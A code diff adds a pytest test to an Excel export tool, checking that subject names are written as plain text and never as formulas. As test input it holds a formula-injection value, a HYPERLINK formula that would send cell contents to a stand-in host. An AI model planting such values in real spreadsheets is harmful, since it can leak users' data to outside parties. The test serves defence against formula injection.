@@ -107,6 +107,32 @@ def test_excel_workbook_has_chinese_headers(files: dict[str, Path]) -> None:
     assert book["缺失数据"].max_row > 1
 
 
+def test_excel_workbook_writes_names_as_text_never_formulas(
+    files: dict[str, Path], tmp_path: Path
+) -> None:
+    facts = yaml.safe_load(files["facts"].read_text(encoding="utf-8"))
+    facts["subjects"][0]["name"] = '=HYPERLINK("http://x.test/?"&A1,"点击")'
+    facts["subjects"][1]["name"] = "网格\x0b二"
+    files["facts"].write_text(yaml.safe_dump(facts, allow_unicode=True), encoding="utf-8")
+    target = tmp_path / "names.xlsx"
+    code, _ = call(
+        "evaluate",
+        str(files["scheme"]),
+        str(files["facts"]),
+        "--format",
+        "xlsx",
+        "--output",
+        str(target),
+    )
+    assert code == 0
+    book = load_workbook(target)
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    names = {cell.value for cell in book["总表"]["C"]}
+    assert '=HYPERLINK("http://x.test/?"&A1,"点击")' in names
+    assert "网格\ufffd二" in names
+
+
 def test_explain_one_subject(files: dict[str, Path]) -> None:
     code, text = call("explain", str(files["scheme"]), str(files["facts"]), "g2")
     assert code == 0
